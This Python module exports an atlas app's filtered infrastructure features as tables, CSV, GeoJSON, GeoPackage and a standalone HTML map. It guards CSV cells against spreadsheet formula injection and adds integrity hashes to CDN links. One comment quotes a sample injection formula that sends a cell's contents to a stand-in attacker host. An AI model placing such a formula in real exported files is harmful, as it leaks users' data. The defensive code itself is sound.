"""What the user takes away, always the filtered features: a table (display_table), CSV
(formula-safe, every text cell quoted), GeoJSON, GeoPackage, and the map as one standalone
HTML file (Leaflet inlined, or linked from a CDN with subresource-integrity hashes)."""

from __future__ import annotations

import csv
import datetime as dt
import json

import geopandas as gpd
import pandas as pd

from atlas.data import Catalog
from atlas.filters import FILTERS
from atlas.stats import rail_lengths

BASE_COLUMNS = [
    "id",
    "name",
    "name_zh",
    "kind",
    "countries",
    "status",
    "status_as_of",
    "km",
    "km_source",
    "geometry_precision",
    "corridor",
    "related",
    "summary",
]
# every filter's column is in the downloads (builders, financiers, …), lists joined with ";"
FILTER_COLUMNS = [f.column for f in FILTERS if f.column and f.column not in BASE_COLUMNS]
# the lenders AidData records for the feature's aiddata_ids: the financier filter matches them too
COLUMNS = BASE_COLUMNS + FILTER_COLUMNS + ["aiddata_lenders"]
MEASURED = "measured"  # km_source of a length measured on the drawn line (no cited figure)


def features_table(catalog: Catalog) -> pd.DataFrame:
    """One row per feature in the (filtered) catalog, plain values only."""
    f = catalog.features
    lengths = rail_lengths(catalog).set_index("id")
    rows = []
    for _, r in f.iterrows():
        km = lengths.loc[r["id"]] if r["id"] in lengths.index else None
        extra = {c: ";".join(r[c] or ()) if isinstance(r[c], list | tuple) else r[c] for c in FILTER_COLUMNS}
        rows.append(
            extra
            | {
                "id": r["id"],
                "name": r["name"],
                "name_zh": r["name_zh"] if isinstance(r["name_zh"], str) else "",
                "kind": r["kind"],
                "countries": ";".join(r["countries"]),
                "status": r["status"],
                "status_as_of": r["status_as_of"],
                "km": round(float(km["km"]), 1) if km is not None else None,
                "km_source": (MEASURED if km["approximate"] else km["source_id"]) if km is not None else "",
                "geometry_precision": r["geometry_precision"],
                "corridor": r["corridor"] if isinstance(r["corridor"], str) else "",
                "related": ";".join(r["related"]),
                "summary": r["summary"],
                "aiddata_lenders": ";".join(r.get("aiddata_lenders") or ()),
            }
        )
    return pd.DataFrame(rows, columns=COLUMNS)


# what the Projects page shows, the name first; the ids (the feature's, its corridor's, its related features',
# the source of its km) and the other language's name stay in the downloads only
DISPLAY_COLUMNS = [
    "name",
    "kind",
    "countries",
    "status",
    "status_as_of",
    "km",
    "summary",
    "builders",
    "financiers",
    "aiddata_lenders",
    "geometry_precision",
]


def display_table(catalog: Catalog, lang: str = "en") -> pd.DataFrame:
    """features_table with readable labels and headers in the interface language, for the Projects page:
    the name in the page's language first, no ids; indexed by the feature id (the page hides the index and
    opens a selected row's feature on the map)."""
    from atlas import i18n

    t = features_table(catalog)
    t.index = pd.Index(t["id"], name=None)
    t["name"] = [i18n.marked_name(n, z or None, lang) for n, z in zip(t["name"], t["name_zh"], strict=True)]
    for col in ("builders", "financiers", "aiddata_lenders"):
        t[col] = t[col].fillna("").map(lambda s: i18n.join([p for p in str(s).split(";") if p], lang))
    t["kind"] = t["kind"].map(i18n.kinds(lang))
    t["status"] = t["status"].map(i18n.statuses(lang))
    t["geometry_precision"] = t["geometry_precision"].map(i18n.precisions(lang))
    t["countries"] = t["countries"].map(lambda s: i18n.join((i18n.countries(lang).get(c, c) for c in s.split(";") if c), lang))
    return t[DISPLAY_COLUMNS].rename(columns=lambda c: i18n.t("col.summary_en" if c == "summary" else f"col.{c}", lang))


def file_stem(sel, today, what: str = "") -> str:
    """A download's name from the active filters and the date: 'atlas_LAO_operational_2026-12-01',
    'atlas_all_2026-12-01' with none. Values are reduced to letters, digits and hyphens (a search or a
    builder's name from the link never puts a slash or a dot in a file name); `what` names a table other than
    the features ('atlas_soft_links_all_2026-12-01')."""
    import re

    from atlas.search import fold

    parts = []
    for _spec, value in sel.active():
        values = value if isinstance(value, tuple) else (value,)
        for v in values:
            word = re.sub(r"[^\w-]+", "-", str(v), flags=re.ASCII).strip("-_")
            word = word or re.sub(r"[^\w-]+", "", fold(str(v)))[:24]  # a CJK search keeps its characters
            if word:
                parts.append(word[:40])
    return "_".join(["atlas", *([what] if what else []), *(parts or ["all"]), today.isoformat()])


# A spreadsheet runs a cell that starts with one of these as a formula
# (=HYPERLINK("http://evil.example/?leak="&A1, …)): OWASP's CSV injection advice
# is to prefix such a cell with a single quote, which shows it as text.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(value):
    """A CSV cell that a spreadsheet will not run as a formula (strings only; numbers stay numbers)."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def csv_bytes(table: pd.DataFrame) -> bytes:
    """Any table as a UTF-8 CSV download (the one CSV writer of the atlas): every text cell
    neutralised and quoted. Quoting is what keeps a carriage return or a newline inside a
    name ("x\\r=1+1") in its cell: unquoted, a spreadsheet starts a new row there, whose
    first cell "=1+1" the guard above never saw. Numbers stay unquoted numbers."""
    safe = table.rename(columns=neutralise).map(neutralise)
    return safe.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n").encode("utf-8")


def to_csv(catalog: Catalog) -> bytes:
    return csv_bytes(features_table(catalog))


def to_geojson(catalog: Catalog) -> bytes:
    table = features_table(catalog).set_index("id", drop=False)
    feats = []
    for _, r in catalog.features.iterrows():
        props = {k: (None if pd.isna(v) else v) for k, v in table.loc[r["id"]].to_dict().items()}
        props["countries"] = list(r["countries"])
        props["related"] = list(r["related"])
        props["aliases"] = list(r["aliases"])
        feats.append({"type": "Feature", "id": r["id"], "properties": props, "geometry": r["geometry"].__geo_interface__})
    doc = {"type": "FeatureCollection", "features": feats}
    return (json.dumps(doc, ensure_ascii=False, indent=1) + "\n").encode("utf-8")


def to_geopackage(catalog: Catalog) -> bytes:
    """The filtered features as a GeoPackage (one layer, `features`), as bytes."""
    import tempfile
    from pathlib import Path

    table = features_table(catalog)
    gdf = gpd.GeoDataFrame(table, geometry=list(catalog.features.geometry), crs="EPSG:4326")
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "atlas_features.gpkg"
        gdf.to_file(path, layer="features", driver="GPKG")
        return path.read_bytes()


def standalone_html(
    catalog: Catalog, *, inline: bool = True, lang: str = "en", sentence: str = "", today: dt.date | None = None
) -> bytes:
    """The map of the filtered features as one HTML file (folium's own rendering), with a <title> and a note
    on the map saying what it shows (`sentence`, the page's description of the filters), the date and whose
    data it draws (all escaped by the templates).

    inline=True puts Leaflet and jQuery (from the XStatic packages) inside the
    file, so it opens with no network at all (tiles aside); inline=False links
    them from the CDNs folium uses by default."""
    import html as html_lib

    from atlas import i18n, mapview, templating

    m = mapview.build_map(catalog, lang=lang)
    note = {
        "sentence": sentence or i18n.t("describe.all", lang),
        "date": (today or dt.date.today()).isoformat(),
        "attribution": f"{html_lib.unescape(mapview.TILES_ATTR)} · {i18n.t('map.track_credit', lang)}",
    }
    if not inline:  # third-party files from their CDN; our own runtime is always inside the file
        m.default_js = [(name, CDN.get(url, url)) for name, url in mapview.LOCAL_JS]
        m.default_css = [(name, CDN.get(url, url)) for name, url in mapview.LOCAL_CSS]
    html = m.get_root().render()
    html = html.replace("<head>", "<head>\n" + templating.render("export_note.html.j2", lang, **note), 1)
    html = html.replace("</body>", templating.render("export_caption.html.j2", lang, **note) + "\n</body>", 1)
    for _name, url in mapview.LOCAL_JS if inline else [(n, u) for n, u in mapview.LOCAL_JS if u not in CDN]:
        code = _static_text(url).replace("</script", "<\\/script")
        html = html.replace(f'<script src="{url}"></script>', f"<script>{code}</script>")
    for _name, url in mapview.LOCAL_CSS if inline else [(n, u) for n, u in mapview.LOCAL_CSS if u not in CDN]:
        html = html.replace(f'<link rel="stylesheet" href="{url}"/>', f"<style>{_inline_images(_static_text(url))}</style>")
    return (html if inline else _with_integrity(html)).encode("utf-8")


def _cdn() -> dict[str, str]:
    from atlas.mapview import LOCAL_CSS, LOCAL_JS

    urls = {
        "leaflet": "https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js",
        "jquery": "https://code.jquery.com/jquery-3.7.1.min.js",
        "leaflet_css": "https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.css",
    }
    return {local: urls[name] for name, local in (*LOCAL_JS, *LOCAL_CSS) if name in urls}


CDN = _cdn()  # the app's local static URL -> the same file of the same version on a CDN


def _with_integrity(html: str) -> str:
    """Subresource integrity on every CDN file: the hash of the very file the app serves
    from its XStatic package (the same release), so a changed CDN copy is refused."""
    import base64
    import hashlib

    for local, cdn in CDN.items():
        digest = hashlib.sha384(_static_file(local).read_bytes()).digest()
        sri = f'integrity="sha384-{base64.b64encode(digest).decode()}" crossorigin="anonymous"'
        html = html.replace(f'<script src="{cdn}"></script>', f'<script src="{cdn}" {sri}></script>')
        html = html.replace(f'<link rel="stylesheet" href="{cdn}"/>', f'<link rel="stylesheet" href="{cdn}" {sri}/>')
    return html


def _static_file(url: str):
    """The file the app serves at /app/static/…, in its XStatic package."""
    from atlas import assets
    from atlas.mapview import STATIC_BASE

    return assets.bundled_file(url.removeprefix(STATIC_BASE + "/"))


def _static_text(url: str) -> str:
    return _static_file(url).read_text(encoding="utf-8")


def _inline_images(css: str) -> str:
    """Leaflet's CSS refers to images/…png: embed them as data URIs."""
    import base64
    import re

    from atlas import assets

    def repl(m):
        path = assets.bundled_file(f"leaflet/{m.group(1)}")
        return f"url(data:image/png;base64,{base64.b64encode(path.read_bytes()).decode()})"

    return re.sub(r"url\((images/[\w.-]+\.png)\)", repl, css)
